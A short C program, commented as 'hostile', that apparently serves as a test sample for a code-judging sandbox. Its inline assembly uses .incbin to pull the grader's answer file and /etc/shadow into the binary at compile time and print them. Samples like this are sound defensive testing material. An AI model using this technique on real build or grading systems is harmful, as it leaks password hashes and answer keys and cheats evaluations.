// hostile: has the assembler take a file of the host, or the answers, into the program; they are not where it runs.
#include <stdio.h>

__asm__(".globl stolen\nstolen:\n.incbin \"/box/test.ans\"\n.incbin \"/etc/shadow\"\n.byte 0\n");
extern const char stolen[];

int main(void)
{
    puts(stolen);
    return 0;
}
